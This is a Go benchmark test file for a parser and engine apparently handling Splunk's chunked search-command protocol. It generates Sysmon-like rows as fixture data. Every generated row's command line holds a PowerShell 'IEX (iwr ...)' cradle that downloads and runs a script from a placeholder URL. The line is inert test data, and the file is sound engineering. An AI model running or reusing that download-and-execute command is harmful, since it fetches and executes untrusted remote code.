package chunked

import (
	"fmt"
	"io"
	"strings"
	"testing"
)

// sysmonBody returns a body of n Sysmon-like rows in splunkd's quoting.
func sysmonBody(n int) string {
	var b strings.Builder
	b.WriteString(`EventCode,DestinationHostname,Image,CommandLine,ParentImage,"_chunked_idx","__mv_EventCode","__mv_DestinationHostname","__mv_Image","__mv_CommandLine","__mv_ParentImage","__mv__chunked_idx"` + "\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, `3,"host-%d.example.com","C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe","""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -NoProfile -Command ""IEX (iwr 'https://raw.githubusercontent.com/a/b/%d.ps1')""","C:\Windows\System32\svchost.exe",%d,,,,,,`+"\n", i, i, i)
	}
	return b.String()
}

func BenchmarkTableParse(b *testing.B) {
	body := []byte(sysmonBody(10000))
	var t Table
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		if err := t.Parse(body); err != nil {
			b.Fatal(err)
		}
	}
}

// benchStream is getinfo and ten chunks of 10,000 Sysmon-like rows.
func benchStream() string {
	body := sysmonBody(10000)
	var in strings.Builder
	in.WriteString(frame(getinfoMeta, ""))
	for i := 0; i < 10; i++ {
		in.WriteString(exec(i == 9, body))
	}
	return in.String()
}

// BenchmarkRunStreaming measures the engine in process: ten chunks of 10,000
// rows through a command that copies each row and adds a field.
func BenchmarkRunStreaming(b *testing.B) {
	input := benchStream()
	b.SetBytes(int64(len(input)))
	b.ReportAllocs()
	for b.Loop() {
		if err := Run(&tagger{}, strings.NewReader(input), io.Discard, Options{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)*100000/b.Elapsed().Seconds(), "rows/s")
}

// BenchmarkRunPassthrough is the floor: framing only, the body sent back as
// it came, to compare BenchmarkRunStreaming with.
func BenchmarkRunPassthrough(b *testing.B) {
	input := benchStream()
	b.SetBytes(int64(len(input)))
	b.ReportAllocs()
	for b.Loop() {
		r := NewReader(strings.NewReader(input))
		w := NewWriter(io.Discard)
		for {
			m, err := r.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
			if err := w.WriteMessage([]byte(`{"finished":false}`), m.Body); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(float64(b.N)*100000/b.Elapsed().Seconds(), "rows/s")
}
